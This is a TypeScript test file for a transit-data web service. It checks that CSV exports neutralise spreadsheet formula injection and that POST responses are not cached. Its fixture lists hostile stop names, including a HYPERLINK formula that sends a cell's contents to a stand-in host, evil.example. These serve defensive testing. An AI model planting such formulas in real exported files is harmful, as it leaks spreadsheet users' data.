/**
 * What a web answer lets a visitor's tools do with it, through a real daemon and the real CGI program: a data file's
 * cell that a spreadsheet would run as a formula reaches format=csv as text (OWASP's CSV-injection advice), and the
 * answer to a POST, whose body may override the URL's parameters, is never stored by a cache.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../src/web/csv.js';
import { csv, TINY_FEED, writeFeed } from './feeds.js';
import { runCgi } from './helpers/cgi.js';
import { startDaemon, type RunningDaemon } from './helpers/daemon.js';

/** Stop names as a hostile feed would publish them: each starts with a character spreadsheets take for a formula. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd', '-2+3', '@SUM(A1)', '\tTab', '\rCr'];

/** RFC 4180 text → rows of cells (quoted cells may hold commas, quotes doubled, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /"((?:[^"]|"")*)"|([^,\r\n]*)/y;
  for (let at = 0; at < text.length;) {
    const row: string[] = [];
    for (;;) {
      cell.lastIndex = at;
      const m = cell.exec(text)!;
      row.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : m[2]!);
      at = cell.lastIndex;
      if (text[at] !== ',') break;
      at++;
    }
    rows.push(row);
    at += 2; // CRLF
  }
  return rows;
}

let d: RunningDaemon;
beforeAll(async () => {
  const stops = FORMULAS.map((name, i) => `F${i},"${name.replaceAll('"', '""')} xq",52.5,13.4,0,`);
  const feed = writeFeed({
    ...TINY_FEED,
    'stops.txt': TINY_FEED['stops.txt']! + csv(...stops),
  });
  d = await startDaemon({ data: feed, workers: 1 });
});
afterAll(async () => {
  await d?.stop();
});

const cgi = (path: string, query: string, extra: { method?: 'POST'; body?: string } = {}) =>
  runCgi({ query, ...extra, env: { ROQ_RUN_DIR: d.run, SCRIPT_NAME: '/cgi-bin/roq.cgi', PATH_INFO: path } });

describe('format=csv and spreadsheet formulas', () => {
  it("writes a data cell starting with = + - @ TAB or CR with a leading ' and quoted", async () => {
    const r = await cgi('/stops', 'q=xq&format=csv');
    expect(r.status, r.body).toBe(200);
    const [header, ...rows] = parseCsv(r.body);
    const names = rows.map((row) => row[header!.indexOf('stop_name')]!);
    expect(names.sort()).toEqual(FORMULAS.map((f) => `'${f} xq`).sort());
    expect(r.body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"") xq"`);
    for (const line of r.body.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
  });

  it('leaves numbers, plain text and a header alone, and quotes as RFC 4180 says', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('Central Station')).toBe('Central Station');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('-3')).toBe(`"'-3"`);
    expect(csvCell('=1"2')).toBe(`"'=1""2"`);
  });

  it('property: no text cell, seeded random, reaches a spreadsheet starting with a formula character', () => {
    let seed = 21;
    const next = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
    const alphabet = '=+-@\t\r\n", a1\'';
    for (let i = 0; i < 5000; i++) {
      const text = Array.from({ length: next() % 8 }, () => alphabet[next() % alphabet.length]).join('');
      const cell = csvCell(text);
      const inner = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(/^[=+\-@\t\r]/.test(inner), JSON.stringify(text)).toBe(false);
      expect(inner.replace(/^'(?=[=+\-@\t\r])/, ''), JSON.stringify(text)).toBe(text);
    }
  });
});

describe('the answer to a POST', () => {
  it('is private and no-store, with no ETag, while the same GET is cacheable', async () => {
    const get = await cgi('/stops', 'q=north&format=json');
    expect(get.status).toBe(200);
    expect(get.headers.etag).toBeTruthy();
    const post = await cgi('/stops', 'q=central&format=json', { method: 'POST', body: 'q=north' });
    expect(post.status).toBe(200);
    expect(post.body).toBe(get.body); // the body won over the URL's q
    expect(post.headers['cache-control']).toBe('private, no-store');
    expect(post.headers.etag).toBeUndefined();
  });
});
